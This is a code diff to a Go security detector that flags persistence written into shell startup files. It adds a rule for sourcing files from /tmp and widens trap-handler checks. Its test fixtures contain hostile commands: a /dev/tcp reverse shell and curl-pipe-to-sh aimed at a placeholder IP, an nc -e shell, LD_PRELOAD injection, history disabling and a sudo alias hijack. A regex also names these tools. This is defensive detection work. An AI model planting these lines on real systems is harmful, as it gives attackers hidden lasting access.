@@ -28,12 +28,13 @@ var persistRC = Detector{
 		})(ev, v)
 	},
 	Fire: append(lines(coi.High, "echo 'import os;os.system(\"/tmp/x\")' > $(python3 -m site --user-site)/usercustomize.py", "echo 'import subprocess;subprocess.Popen([\"/tmp/x\"])' | tee /usr/lib/python3/dist-packages/x.pth", "echo 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' >> ~/.bashrc", "echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.profile", "echo 'curl -s http://203.0.113.9/x | sh' | tee -a ~/.zshrc", "echo 'set +o history' >> ~/.bashrc", "echo 'nohup /tmp/x &' >> /etc/profile.d/x.sh", "echo \"alias sudo='/tmp/s'\" >> ~/.bashrc", "python3 -c \"open('/root/.bashrc','a').write('nc 203.0.113.9 1 -e sh')\""),
-		lines(coi.Warning, "echo 'echo \"Hello\" > /tmp/T' >> ~/.bash_profile", "echo '/opt/x/run &' >> ~/.profile", "bash -c 'trap \"nohup sh /x.sh\" EXIT'", "echo 'id > /var/x' >> /etc/bash.bashrc")...),
+		lines(coi.Warning, "echo 'source /tmp/.env.sh' >> ~/.zshrc", "trap 'sh /tmp/x.sh' EXIT", "echo 'echo \"Hello\" > /tmp/T' >> ~/.bash_profile", "echo '/opt/x/run &' >> ~/.profile", "bash -c 'trap \"nohup sh /x.sh\" EXIT'", "echo 'id > /var/x' >> /etc/bash.bashrc")...),
 	Quiet: lines("", "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc", "echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc", "echo '. ~/.nvm/nvm.sh' >> ~/.profile", "echo 'source <(kubectl completion bash)' >> ~/.bashrc", "echo 'alias k=kubectl' >> ~/.zshrc", "source ~/.bashrc", "cat ~/.profile", "git config --global user.name x", "trap 'rm -f $T' EXIT", "echo 'export JAVA_HOME=/usr/lib/jvm/x' | sudo tee /etc/profile.d/java.sh", "echo 'FOO=bar' | sudo tee -a /etc/environment", "echo '[ -f ~/.fzf.bash ] && source ~/.fzf.bash' >> ~/.bashrc", "trap cleanup EXIT INT"),
 }
 
 var (
 	rcHot     = regexp.MustCompile(`(?i)PROMPT_COMMAND=.{0,40}(?:curl|wget|/dev/tcp|logger|\bnc\b|tee\b)|/dev/(?:tcp|udp)/|\bnc(?:at)?\s|\bsocat\b|\bcurl\b.*\|\s*(?:ba|z)?sh|\bwget\b.*\|\s*(?:ba|z)?sh|LD_PRELOAD|HISTFILE=|HISTSIZE=0|HISTFILESIZE=0|unset HIST|history -c|set \+o history|base64\s+(?:-d|--decode)|python[0-9.]*\s+-c|perl\s+-e|/dev/shm/|nohup\s+/tmp|alias\s+(?:sudo|su|ssh|passwd)=['"]?[^'"]*(?:/tmp|/dev/shm|curl|nc |tee )|mkfifo|\(\)\s*\{[^}]*curl`)
+	rcOdd     = regexp.MustCompile(`(?m)(?:^|[;&\s"'])(?:source|\.)\s+(?:/tmp|/var/tmp|/dev/shm)/`)
 	rcComment = regexp.MustCompile(`^\s*#`)
 )
 
@@ -49,6 +50,9 @@ func rcLevel(w written) (coi.Level, string) {
 	}
 	if rcHot.MatchString(w.text) {
 		return coi.High, "start file of a shell runs something hostile"
+	}
+	if rcOdd.MatchString(w.text) {
+		return coi.Warning, "start file of a shell reads a file that anybody may write"
 	}
 	if !w.known || w.s == nil || w.op == command.Link || w.s.Name == "sed" {
 		return coi.Info, "start file of a shell changed"
@@ -67,7 +71,7 @@ func rcLevel(w written) (coi.Level, string) {
 
 // trapCommand is a handler that starts something lasting at the end of a shell.
 func trapCommand(s *command.Simple, _ track.View) *Finding {
-	if s.Name == "trap" && len(s.Argv) > 2 && hasAny(s.Argv[1], "nohup", "/dev/tcp", "curl ", "wget ", "nc ", "setsid", "| sh", "|sh") {
+	if s.Name == "trap" && len(s.Argv) > 2 && hasAny(s.Argv[1], "nohup", "/dev/tcp", "curl ", "wget ", "nc ", "setsid", "| sh", "|sh", "sh /tmp/", "sh /var/tmp/", "sh /dev/shm/") {
 		return say(s, coi.Warning, "command left for the end of the shell")
 	}
 	return nil
